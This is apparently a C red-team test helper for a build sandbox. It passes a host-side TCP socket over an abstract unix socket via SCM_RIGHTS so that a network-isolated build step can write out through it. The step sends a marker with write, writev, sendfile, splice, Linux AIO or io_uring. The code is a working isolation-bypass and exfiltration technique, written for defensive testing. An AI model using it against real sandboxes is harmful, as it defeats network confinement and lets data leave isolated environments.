// Another local user's helper (run unprivileged): it connects a TCP socket to
// argv[2] (IP:PORT) and hands it to whoever connects to the abstract unix
// socket argv[1] (shared by every process on the host's network namespace,
// RUN steps on the host network included). Run as "sockfd take NAME [HOW]", it
// is the step's side: it takes the socket and writes to it with write(2), or
// with HOW: writev (as musl's stdio does), sendfile (from its own binary),
// splice (from a pipe), aio (Linux AIO: io_submit with IOCB_CMD_PWRITE) or
// uring (io_uring, IORING_OP_SEND) (redteam16).
#define _GNU_SOURCE /* splice */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static socklen_t abstract(struct sockaddr_un *a, const char *name)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	size_t n = strlen(name);
	memcpy(a->sun_path + 1, name, n);
	return sizeof(sa_family_t) + 1 + n;
}

/* One IOCB_CMD_PWRITE of buf on fd through Linux AIO: the write happens
 * inside io_submit. */
static ssize_t rt_aio_write(int fd, const void *buf, size_t len)
{
	aio_context_t ctx = 0;
	if (syscall(SYS_io_setup, 1, &ctx) < 0)
		return -1;
	struct iocb cb;
	memset(&cb, 0, sizeof(cb));
	cb.aio_fildes = fd;
	cb.aio_lio_opcode = IOCB_CMD_PWRITE;
	cb.aio_buf = (uint64_t)(uintptr_t)buf;
	cb.aio_nbytes = len;
	struct iocb *cbs[1] = {&cb};
	if (syscall(SYS_io_submit, ctx, 1, cbs) != 1)
		return -1;
	struct io_event ev;
	if (syscall(SYS_io_getevents, ctx, 1, 1, &ev, NULL) != 1)
		return -1;
	return ev.res;
}

/* One IORING_OP_SEND of buf on fd through io_uring. */
static ssize_t uring_send(int fd, const void *buf, size_t len)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	int r = syscall(SYS_io_uring_setup, 2, &p);
	if (r < 0) {
		perror("RT9 io_uring_setup");
		return -1;
	}
	char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r, IORING_OFF_SQ_RING);
	struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r, IORING_OFF_SQES);
	char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r, IORING_OFF_CQ_RING);
	if (sq == MAP_FAILED || sqes == MAP_FAILED || cq == MAP_FAILED)
		return -1;
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail), mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *array = (unsigned *)(sq + p.sq_off.array);
	unsigned i = *tail & mask;
	struct io_uring_sqe *e = &sqes[i];
	memset(e, 0, sizeof(*e));
	e->opcode = IORING_OP_SEND;
	e->fd = fd;
	e->addr = (uint64_t)(uintptr_t)buf;
	e->len = len;
	array[i] = i;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1;
	unsigned head = *(unsigned *)(cq + p.cq_off.head), cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *c = (struct io_uring_cqe *)(cq + p.cq_off.cqes) + (head & cmask);
	if (c->res < 0) {
		errno = -c->res;
		return -1;
	}
	return c->res;
}

static int take(const char *name, const char *how)
{
	struct sockaddr_un a;
	socklen_t al = abstract(&a, name);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, al) < 0) {
		perror("RT9 connect helper");
		return 1;
	}
	char b;
	struct iovec iov = {.iov_base = &b, .iov_len = 1};
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u;
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf)};
	if (recvmsg(s, &m, 0) <= 0 || !CMSG_FIRSTHDR(&m)) {
		perror("RT9 recvmsg");
		return 1;
	}
	int fd;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
	static const char msg[] = "RT9 SOCKFD exfiltrated\n";
	ssize_t n = -1;
	if (!strcmp(how, "write")) {
		n = write(fd, msg, sizeof(msg) - 1);
	} else if (!strcmp(how, "writev")) {
		struct iovec v[2] = {{.iov_base = (void *)msg, .iov_len = 4},
				     {.iov_base = (void *)(msg + 4), .iov_len = sizeof(msg) - 5}};
		n = writev(fd, v, 2);
	} else if (!strcmp(how, "sendfile")) {
		int in = open("/proc/self/exe", O_RDONLY);
		off_t off = 0;
		n = in < 0 ? -1 : sendfile(fd, in, &off, 16);
	} else if (!strcmp(how, "splice")) {
		int p[2];
		if (pipe(p) == 0 && write(p[1], msg, sizeof(msg) - 1) > 0)
			n = splice(p[0], NULL, fd, NULL, sizeof(msg) - 1, 0);
	} else if (!strcmp(how, "aio")) {
		n = rt_aio_write(fd, msg, sizeof(msg) - 1);
	} else if (!strcmp(how, "uring")) {
		n = uring_send(fd, msg, sizeof(msg) - 1);
	}
	if (n < 0) {
		perror("RT9 write");
		return 1;
	}
	printf("RT9 SOCKFD wrote to the passed socket with %s\n", how);
	fflush(stdout);
	sleep(1);
	return 0;
}

int main(int argc, char **argv)
{
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "take"))
		return take(argv[2], argc == 4 ? argv[3] : "write");
	if (argc != 3) {
		fprintf(stderr, "usage: sockfd NAME IP:PORT | sockfd take NAME [write|writev|sendfile|splice|aio|uring]\n");
		return 2;
	}
	char host[64];
	const char *c = strrchr(argv[2], ':');
	if (!c || (size_t)(c - argv[2]) >= sizeof(host))
		return 2;
	memcpy(host, argv[2], c - argv[2]);
	host[c - argv[2]] = 0;
	struct sockaddr_in t = {.sin_family = AF_INET, .sin_port = htons(atoi(c + 1))};
	inet_pton(AF_INET, host, &t.sin_addr);
	struct sockaddr_un a;
	socklen_t al = abstract(&a, argv[1]);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(s, (struct sockaddr *)&a, al) < 0 || listen(s, 4) < 0) {
		perror("RT9 bind");
		return 1;
	}
	printf("RT9 SOCKFD ready uid %d\n", getuid());
	fflush(stdout);
	for (;;) {
		int cl = accept(s, NULL, NULL);
		if (cl < 0)
			continue;
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(fd, (struct sockaddr *)&t, sizeof(t)) < 0) {
			perror("RT9 helper connect");
			close(cl);
			continue;
		}
		char b = 'x';
		struct iovec iov = {.iov_base = &b, .iov_len = 1};
		union {
			char buf[CMSG_SPACE(sizeof(int))];
			struct cmsghdr align;
		} u;
		struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf)};
		struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
		cm->cmsg_level = SOL_SOCKET;
		cm->cmsg_type = SCM_RIGHTS;
		cm->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(cm), &fd, sizeof(int));
		sendmsg(cl, &m, 0);
		close(fd);
		close(cl);
	}
}
